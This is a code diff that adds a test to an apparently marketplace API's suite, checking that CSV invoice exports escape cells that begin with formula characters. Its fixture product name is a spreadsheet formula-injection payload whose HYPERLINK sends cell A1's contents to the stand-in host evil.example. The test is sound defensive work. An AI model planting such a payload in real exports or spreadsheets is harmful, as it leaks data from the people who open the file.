@@ -328,3 +328,17 @@ def test_the_meter_thread_meters_until_stopped(market):
     metered = market.client.get(f"/api/v1/orders/{order['id']}", headers=buyer["headers"]).json()
     assert metered["charged"]["fen"] == charge_for_seconds(7200, 1, 60)
     market.client.post(f"/api/v1/orders/{order['id']}/release", headers=buyer["headers"])
+
+
+def test_invoice_csv_cells_never_start_a_formula(market):
+    name = '=HYPERLINK("http://evil.example/?"&A1,"点击领取")'
+    _, product = market.seller_with_product(name=name, price_on_demand_fen=3600)
+    buyer = market.buyer(topup_fen=1_000_000)
+    order = market.order(buyer, product).json()
+    market.clock.advance(600)
+    market.client.post(f"/api/v1/orders/{order['id']}/release", headers=buyer["headers"])
+    r = market.client.get(f"/api/v1/invoices/{buyer['org_id']}:2026-11?format=csv", headers=buyer["headers"])
+    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
+    line = next(row for row in rows if row and row[0] == order["id"])
+    assert line[1] == "'" + name  # shown as text by Excel, LibreOffice and WPS
+    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row)
